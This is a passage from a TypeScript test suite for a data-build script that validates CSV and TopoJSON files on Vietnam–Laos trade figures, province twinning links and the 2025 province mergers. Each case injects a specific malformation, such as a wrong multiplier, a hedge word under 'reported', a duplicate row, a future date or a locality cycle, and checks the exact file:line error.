  ['value without its multiplier (English)', one('observations', sub('2017,2017,892900000', '2017,2017,892.9')), ['data/observations.csv:4: value 892.9 is the quote\'s "892.9 million" without its multiplier; write 892900000']],
  ['value is the year of the quote', one('observations', sub('2016,2016,823400000', '2016,2016,2016')), ['data/observations.csv:3: value 2016 is a year in the quote ("Năm 2016"), not a figure']],
  ['value is a percentage of a USD series', one('observations', sub('2017,2017,892900000', '2017,2017,8.5')), ['data/observations.csv:4: value 8.5 is the percentage "8.5%" in the quote, but the unit is USD']],
  ['"hơn" under reported', one('observations', sub('1000000000,USD,lower_bound', '1000000000,USD,reported')), ['data/observations.csv:7: status reported disagrees with the quote\'s "hơn 1 tỷ": the status should be lower_bound']],
  ['"hơn 14.209" under reported', one('observations', appendRow(viRow('kim ngạch đạt hơn 14.209 USD', '14209'))), ['data/observations.csv:8: status reported disagrees with the quote\'s "hơn 14.209": the status should be lower_bound']],
  ['"gần" under reported', one('observations', appendRow(viRow('đạt gần 2,5 tỷ USD', '2500000000'))), ['data/observations.csv:8: status reported disagrees with the quote\'s "gần 2,5 tỷ": the status should be upper_bound']],
  ['"khoảng" under reported', one('observations', appendRow(viRow('vốn thực hiện đạt khoảng 2,8 tỷ USD', '2800000000'))), ['data/observations.csv:8: status reported disagrees with the quote\'s "khoảng 2,8 tỷ": the status should be approximate']],
  ['"ước đạt" under reported', one('observations', appendRow(viRow('năm 2019 ước đạt 2,2 tỷ USD', '2200000000'))), ['data/observations.csv:8: status reported disagrees with the quote\'s "ước đạt 2,2 tỷ": the status should be estimate']],
  ['"mục tiêu" under reported', one('observations', appendRow(viRow('mục tiêu đạt 5 tỷ USD', '5000000000'))), ['data/observations.csv:8: status reported disagrees with the quote\'s "mục tiêu 5 tỷ": the status should be target']],
  ['"more than" under reported', one('observations', sub('"trade amounted to 892.9 million USD in 2017, up 8.5 percent",,,\no4', '"trade amounted to more than 892.9 million USD in 2017",,,\no4')), ['data/observations.csv:4: status reported disagrees with the quote\'s "more than 892.9 million": the status should be lower_bound']],
  ['"about" under reported', one('observations', sub('"a slight decrease of 2.1 per cent year on year"', '"a decrease of about 2.1 per cent"')), ['data/observations.csv:6: status reported disagrees with the quote\'s "about 2.1": the status should be approximate']],
  ['a bound of the wrong side', one('observations', sub('1000000000,USD,lower_bound', '1000000000,USD,upper_bound')), ['data/observations.csv:7: status upper_bound disagrees with the quote\'s "hơn 1 tỷ": the status should be lower_bound']],

  // The same fact twice under new ids.
  ['the same observation under a new id', one('observations', (t) => t + t.split('\n')[1].replace('o1,', 'o1-copy,') + '\n'), ['data/observations.csv:8: the same observation as o1 (line 2): same series, period, locality, source and value; keep one']],
  ['the same link pair twice', one('twinning', (t) => t + t.split('\n')[1].replace('l1,', 'l2,').replace(',cooperation,', ',twinning,') + '\n'), ['data/twinning.csv:3: the same link as l1 (line 2): vn-son-la and la-houaphanh at province level; keep one']],
  ['the same page as two sources', one('sources', appendRow('web-2,press,Trang web,Web page 2,Tin Thử,Test News 2,Test News 2,,,2018,,https://example.org/trade,en,,,')), ['data/sources.csv:5: the same url https://example.org/trade as source "web" (line 3); one source per document or page']],
  ['the same document as two sources', one('sources', (t) => t + t.split('\n')[1].replace('doc,', 'doc-2,') + '\n'), ['data/sources.csv:5: the same file doc.txt as source "doc" (line 2); one source per document or page']],
  ['the same milestone twice', one('milestones', (t) => t + t.split('\n')[1].replace('m1,', 'm2,') + '\n'), ['data/milestones.csv:3: the same milestone as m1 (line 2): same date and title_vi; keep one']],
  ['the same locality twice', one('localities', (t) => t + t.split('\n')[3].replace('vn-son-la--moc-chau,', 'vn-son-la--moc-chau-2,') + '\n'), [`${SL}:5: the same locality as vn-son-la--moc-chau (line 4): same country, level, name_vi and parent; keep one`]],

  // Empty or shrunk tables.
  ['header-only observations', one('observations', headerOnly), ['data/observations.csv: no observations: the file has a header but no rows']],
  ['header-only twinning', one('twinning', headerOnly), ['data/twinning.csv: no links: the file has a header but no rows']],
  ['header-only milestones', one('milestones', headerOnly), ['data/milestones.csv: no milestones: the file has a header but no rows']],
  ['header-only series', one('series', headerOnly), ['data/series.csv: no series: the file has a header but no rows']],
  ['header-only sources', one('sources', headerOnly), ['data/sources.csv: no sources: the file has a header but no rows']],
  ['header-only localities', one('localities', headerOnly), ['data/localities.csv: no localities: the file has a header but no rows']],
  ['a table shrunk below its floor', one('observations', (t) => t.split('\n').slice(0, 3).join('\n') + '\n'), ['data/observations.csv: only 2 rows; the data has had at least 5 observations (rows deleted by mistake? if on purpose, lower the floor in scripts/build-data.ts)'], { floors: { observations: 5 } }],
  ['twinning shrunk below its floor', one('twinning', (t) => t), ['data/twinning.csv: only 1 row; the data has had at least 20 links (rows deleted by mistake? if on purpose, lower the floor in scripts/build-data.ts)'], { floors: { twinning: 20 } }],

  // No fact dated after the build.
  ['an observation in 2206', one('observations', sub('o1,trade.total,2015,2015', 'o1,trade.total,2206,2206')), ['data/observations.csv:2: period_start 2206 is after the build date 2026-12-01; only a target may lie ahead']],
  ['an observation ending next year', one('observations', sub('o6,trade.total,2018,2018', 'o6,trade.total,2018,2027')), ['data/observations.csv:7: period_end 2027 is after the build date 2026-12-01; only a target may lie ahead']],
  ['an observation next month', one('observations', sub('o6,trade.total,2018,2018', 'o6,trade.total,2027-01,2027-01')), ['data/observations.csv:7: period_start 2027-01 is after the build date 2026-12-01; only a target may lie ahead']],
  ['a milestone in 2031', one('milestones', sub('1977-07-18', '2031-07-18')), ['data/milestones.csv:2: date 2031-07-18 is after the build date 2026-12-01; only a target may lie ahead']],
  ['a milestone ending in 2031', one('milestones', sub('1977-07-18,,', '1977-07-18,2031,')), ['data/milestones.csv:2: date_end 2031 is after the build date 2026-12-01; only a target may lie ahead']],
  [
    'sources disagree and no reason is given',
    one('observations', appendRow(OTHER_2016)),
    ['data/observations.csv:8: sources disagree for trade.total 2016 2016 (823400000 vs 892900000) but data/disagreements.csv gives no reason; add a row (reason "unknown" if it is not known)']
  ],
  [
    'a reason for a period where sources agree',
    one('disagreements', appendRow('trade.total,,2015,2015,unknown,Chưa rõ lý do,Reason not known')),
    ['data/disagreements.csv:2: sources do not disagree for trade.total 2015 2015; remove the row']
  ],
  ['a link since 2029', one('twinning', sub(',1969-11,', ',2029,')), ['data/twinning.csv:2: since 2029 is after the build date 2026-12-01; only a target may lie ahead']],
  ['last_verified in 2027', one('twinning', sub(',2026-11-24,', ',2027-01-05,')), ['data/twinning.csv:2: last_verified 2027-01-05 is after the build date 2026-12-01; only a target may lie ahead']],
  ['last_verified tomorrow', one('twinning', sub(',2026-11-24,', ',2026-12-02,')), ['data/twinning.csv:2: last_verified 2026-12-02 is after the build date 2026-12-01; only a target may lie ahead']],
  ['a source published in 2027', one('sources', sub(',,2018,,https://example.org/trade', ',,2027,,https://example.org/trade')), ['data/sources.csv:3: published 2027 is after the build date 2026-12-01; only a target may lie ahead']],
  ['a locality founded in 2030', one('localities', appendRow(localityRow({ valid_from: '2030', valid_to: '' }))), [`${SL}:5: valid_from 2030 is after the build date 2026-12-01`]],
  ['a locality ending in 2030', one('localities', appendRow(localityRow({ valid_to: '2030' }))), [`${SL}:5: valid_to 2030 is after the build date 2026-12-01`]],
  ['a disagreement about the future', one('disagreements', appendRow('trade.total,,2030,2030,definition,Khác nhau,Different')), ['data/disagreements.csv:2: period_start 2030 is after the build date 2026-12-01; only a target may lie ahead']],

  // Circles among localities: reported, never a stack overflow.
  ['a locality that is its own parent', one('localities', sub(',vn-son-la,,,,,,,,,', ',vn-son-la--moc-chau,,,,,,,,,')), [`${SL}:4: locality "vn-son-la--moc-chau" is its own parent`]],
  ['a locality that is its own successor', one('localities', appendRow(localityRow({ successor_ids: 'vn-x' }))), [`${SL}:5: locality "vn-x" is its own successor`]],
  ['two localities each the parent of the other', one('localities', appendRow(localityRow({ locality_id: 'vn-a', level: 'district', parent_id: 'vn-b', successor_ids: '', name_vi: 'Huyện A', name_en: 'District A' }) + '\n' + localityRow({ locality_id: 'vn-b', level: 'district', parent_id: 'vn-a', successor_ids: '', name_vi: 'Huyện B', name_en: 'District B' }))), [`${SL}:5: parent_id and successor_ids go round in a circle: vn-a → vn-b → vn-a`]],
  ['successors in a circle, and a link on it', [['localities', appendRow([localityRow({ locality_id: 'vn-a', successor_ids: 'vn-b', name_vi: 'Tỉnh A', name_en: 'A' }), localityRow({ locality_id: 'vn-b', successor_ids: 'vn-c', name_vi: 'Tỉnh B', name_en: 'B' }), localityRow({ locality_id: 'vn-c', successor_ids: 'vn-a', name_vi: 'Tỉnh C', name_en: 'C' })].join('\n'))], ['twinning', sub('l1,vn-son-la,VN-05,la-houaphanh,LA-HO,province', 'l1,vn-a,VN-05,la-houaphanh,LA-HO,former_province')]], [`${SL}:5: parent_id and successor_ids go round in a circle: vn-a → vn-b → vn-c → vn-a`]],
  ['a long chain of parents (no stack overflow)', one('localities', appendRow(Array.from({ length: 3000 }, (_, i) => localityRow({ locality_id: `vn-d${i}`, level: 'district', parent_id: i === 2999 ? 'vn-d0' : `vn-d${i + 1}`, successor_ids: '', name_vi: `Huyện ${i}`, name_en: `District ${i}` })).join('\n'))), [`${SL}:5: parent_id and successor_ids go round in a circle: vn-d0 → vn-d1 → vn-d2 → vn-d3 → … → vn-d2998 → vn-d2999 → vn-d0 (3000 localities)`]],

  // Every code on the map; the map's inputs checked like the tables.
  ['a province missing from the map', one('localities', appendRow('vn-ha-giang,VN,province,VN-03,Hà Giang,Ha Giang,ຮ່າຢາງ,,,,,,,,,,,')), [`${SL}:5: iso_code VN-03 is not a province on the map (${TOPO})`]],
  ['a province code changed to one not on the map (its links not blamed)', one('localities', sub('vn-son-la,VN,province,VN-05', 'vn-son-la,VN,province,VN-99')), [`${SL}:2: iso_code VN-99 is not a province on the map (${TOPO})`]],
  ['merged_into_2025 not a unit', one('localities', sub(',son-la,', ',son-la-moi,')), [`${SL}:2: merged_into_2025 "son-la-moi" is not a 2025 unit (${MERGER})`]],
  ['merged_into_2025 not the unit of the merger table', one('localities', sub(',son-la,', ',phu-tho,')), [`${SL}:2: merged_into_2025 "phu-tho" differs from ${MERGER}, where VN-05 joins "son-la"`]],
  ['the map cut short', one('geo/vn-la-provinces.topo.json', (t) => t.slice(0, 300)), [`${TOPO}: not valid JSON: the file ends in the middle (was it cut short when copied?)`]],
  ['the map broken in the middle', one('geo/vn-la-provinces.topo.json', sub('"objects":{', '"objects":{,')), [`${TOPO}:1: not valid JSON at column 276: Expected property name or '}'`]],
  ['the map missing', one('geo/vn-la-provinces.topo.json', remove), [`${TOPO}: file is missing`]],
  ['the map not UTF-8', one('geo/vn-la-provinces.topo.json', (t) => cp1258(t)), [`${TOPO}:1: not UTF-8 text (byte 0xF5); the file was saved in another encoding (such as Windows-1258 or Windows-1252): save it as UTF-8`]],
  ['the map is GeoJSON, not TopoJSON', one('geo/vn-la-provinces.topo.json', () => '{"type":"FeatureCollection","features":[]}'), [`${TOPO}: not a TopoJSON topology ("type": "Topology" is missing)`]],
  ['the map lost an object', one('geo/vn-la-provinces.topo.json', topo((t) => delete t.objects.vn_provinces_2025)), [`${TOPO}: objects.vn_provinces_2025 is missing or has no shapes`]],
  ['a map shape without its name', one('geo/vn-la-provinces.topo.json', topo((t) => delete t.objects.la_provinces.geometries[0].properties.name_vi)), [`${TOPO}: objects.la_provinces.geometries[0] (LA-HO): properties.name_vi is missing`]],
  ['a map shape on arcs that do not exist', one('geo/vn-la-provinces.topo.json', topo((t) => (t.objects.vn_provinces.geometries[1].arcs = [[99]]))), [`${TOPO}: objects.vn_provinces.geometries[1] (VN-14) refers to arcs that do not exist (the file has 5)`]],
  ['a map province twice', one('geo/vn-la-provinces.topo.json', topo((t) => (t.objects.vn_provinces.geometries[1].properties.iso = 'VN-05'))), [`${TOPO}: objects.vn_provinces.geometries[1] (VN-05): iso VN-05 is also geometries[0]`]],
  ['a map arc that is not points', one('geo/vn-la-provinces.topo.json', topo((t) => (t.arcs[2] = [[105, 'x']]))), [`${TOPO}: arcs[2] is not a list of at least two [x, y] points`]],
  ['a map province in no 2025 unit', one('geo/vn-la-provinces.topo.json', topo((t) => (t.objects.vn_provinces.geometries[1].properties.new_id = 'hoa-binh'))), [`${TOPO}: province VN-14 (Hòa Bình) belongs to 2025 unit "hoa-binh", which is not in vn_provinces_2025`]],
  ['a map name double-encoded', one('geo/vn-la-provinces.topo.json', sub('"name_vi":"Hủa Phăn"', '"name_vi":"Há»§a PhÄƒn"')), [`${TOPO}: objects.la_provinces.geometries[0] (LA-HO): properties.name_vi looks double-encoded: "Há»§a" is UTF-8 text read as Windows-1252 (it should read "Hủa"); retype it, or open the file as UTF-8`]],
  ['merger table with CRLF', one('geo/vn-2025-merger.csv', (t) => t.replace(/\n/g, '\r\n')), [`${MERGER}:1: line ends with CR (Windows line endings); use LF only`]],
  ['merger table one row short', one('geo/vn-2025-merger.csv', (t) => t.split('\n').slice(0, 2).join('\n') + '\n'), [`${MERGER}: no row for VN-14 (Hòa Bình), a province of the map: every one of them needs its 2025 unit`, `${MERGER}: no province joins the 2025 unit "phu-tho" of the map`]],
  ['merger table missing', one('geo/vn-2025-merger.csv', remove), [`${MERGER}: file is missing`]],
  ['merger table header only', one('geo/vn-2025-merger.csv', headerOnly), [`${MERGER}: the file has a header but no rows`, `${MERGER}: no row for VN-05 (Sơn La), a province of the map: every one of them needs its 2025 unit`, `${MERGER}: no row for VN-14 (Hòa Bình), a province of the map: every one of them needs its 2025 unit`, `${MERGER}: no province joins the 2025 unit "son-la" of the map`, `${MERGER}: no province joins the 2025 unit "phu-tho" of the map`]],
  ['merger row twice', one('geo/vn-2025-merger.csv', (t) => t + t.split('\n')[1] + '\n'), [`${MERGER}:4: old_iso VN-05 is listed twice (first on line 2)`]],
  ['merger row for a province not on the map', one('geo/vn-2025-merger.csv', appendRow('VN-03,Hà Giang,Tuyên Quang,ຕວຽນກວາງ,tuyen-quang,false')), [`${MERGER}:4: old_iso VN-03 is not a Viet Nam province of the map (${TOPO})`, `${MERGER}:4: new_id "tuyen-quang" is not a 2025 unit of the map (vn_provinces_2025)`]],
  ['merger row with the wrong unit name', one('geo/vn-2025-merger.csv', sub('Phú Thọ,ຟູເທາະ,phu-tho', 'Hòa Bình,ຟູເທາະ,phu-tho')), [`${MERGER}:3: new_name_vi "Hòa Bình" is not the map's name of phu-tho ("Phú Thọ")`]],
  ['merger row moved to another unit', one('geo/vn-2025-merger.csv', sub('VN-14,Hòa Bình,Phú Thọ,ຟູເທາະ,phu-tho,true', 'VN-14,Hòa Bình,Sơn La,ເຊີນລາ,son-la,true')), [`${MERGER}: no province joins the 2025 unit "phu-tho" of the map`, `${MERGER}:2: new_is_unchanged is true, but son-la joins 2 provinces: false`, `${MERGER}:3: new_id "son-la" differs from the map, where VN-14 is in "phu-tho"`, `${MERGER}:3: new_is_unchanged is true, but son-la joins 2 provinces: false`]],
  ['merger flag not true or false', one('geo/vn-2025-merger.csv', sub('son-la,true', 'son-la,yes')), [`${MERGER}:2: new_is_unchanged "yes" must be true or false`]],
  ['merger old name not the map\'s', one('geo/vn-2025-merger.csv', sub('VN-05,Sơn La,', 'VN-05,Son La,')), [`${MERGER}:2: old_name_vi "Son La" is not the map's name of VN-05 ("Sơn La")`]],

  // A missing file is named first, and nothing is reported against it.
  ['series.csv missing', one('series', remove), ['data/series.csv: file is missing']],
  ['sources.csv missing', one('sources', remove), ['data/sources.csv: file is missing']],
  ['localities.csv missing', one('localities', remove), ['data/localities.csv: file is missing']],
  ['twinning.csv missing', one('twinning', remove), ['data/twinning.csv: file is missing']],
  ['observations.csv missing', one('observations', remove), ['data/observations.csv: file is missing']],
  ['disagreements.csv missing', one('disagreements', remove), ['data/disagreements.csv: file is missing']],
  ['series.csv unreadable', one('series', (t) => cp1258(t)), ['data/series.csv:2: not UTF-8 text (byte 0xF4); the file was saved in another encoding (such as Windows-1258 or Windows-1252): save it as UTF-8']],

  // The source documents.
  ['changed document', one('seeds/doc.txt', (t) => t + 'thêm một dòng\n'), ['data/sources.csv:2: doc.txt has changed: its SHA-256 is 0f4d4b3b2d7c5a1e3a8c3b0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e, sources.csv records 36db2598b04718f4b40e629a2c0e0cdbae3105ce2a20e3eb5d14e7f38f8efb8a']],
  ['document missing', one('sources', sub('doc.txt', 'gone.txt')), ['data/sources.csv:2: file gone.txt not found in seeds']],
  ['documents folder missing under CI', one('seeds', remove), ['seeds: the folder of source documents is missing; under CI every quote must be checked against its document'], { requireDocuments: true }]
];

describe('malformed data is refused with file:line and leaves every output byte for byte', () => {
  it('has at least 100 cases', () => expect(cases.length).toBeGreaterThanOrEqual(100));
  for (const [name, edits, expected, options] of cases) {
    it(name, () => {
      const r = run(name.replace(/\W+/g, '-'), edits, options);
      if (name === 'changed document') {
        expect(r.result.problems).toHaveLength(1);
        expect(r.result.problems[0]).toMatch(/^data\/sources\.csv:2: doc\.txt has changed: its SHA-256 is [0-9a-f]{64}, sources\.csv records 36db2598/);
      } else {
        expect(r.result.problems).toEqual(expected);
      }
      expect(r.result.ok).toBe(false);
      expect(r.after).toEqual(r.before);
    });
  }
});

describe('npm run data (scripts/build-data.ts)', () => {
  const tsx = join(import.meta.dirname, '../../node_modules/.bin/tsx');
  const cli = join(import.meta.dirname, '../build-data.ts');
  const build = (dir: string, env: Record<string, string> = {}) =>
    spawnSync(tsx, [cli, '--data-dir', join(dir, 'data'), '--seeds-dir', join(dir, 'seeds'), '--out-dir', join(dir, 'out'), '--build-date', BUILD_DATE, '--no-floors'], {
      cwd: dir,
      encoding: 'utf8',
      env: { ...process.env, CI: '', ...env }
    });
  it('prints file:line problems, a count, no stack trace, and exits 1 without writing', () => {
    const dir = join(scratch, 'cli-bad');
    cpSync(join(fixtures, 'valid'), join(dir, 'data'), { recursive: true });
    cpSync(join(fixtures, 'seeds'), join(dir, 'seeds'), { recursive: true });
    const loc = join(dir, 'data/localities.csv');
    writeFileSync(loc, readFileSync(loc, 'utf8').replace(',vn-son-la,,,,,,,,,', ',vn-son-la--moc-chau,,,,,,,,,'));
    const r = build(dir);
    expect(r.status).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual([
      'data/localities.csv:4: locality "vn-son-la--moc-chau" is its own parent',
      'data: 1 problem; nothing was written'
    ]);
    expect(existsSync(join(dir, 'out'))).toBe(false);
  }, 30_000);
  it('under CI refuses to build without the documents folder', () => {
    const dir = join(scratch, 'cli-ci');
    cpSync(join(fixtures, 'valid'), join(dir, 'data'), { recursive: true });
    const r = build(dir, { CI: 'true' });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('seeds: the folder of source documents is missing; under CI every quote must be checked against its document');
    const local = build(dir);
    expect(local.status).toBe(0);
    expect(local.stderr.trim()).toBe('warning: seeds not found; quotes and SHA-256 of the source documents were not checked');
  }, 30_000);
});
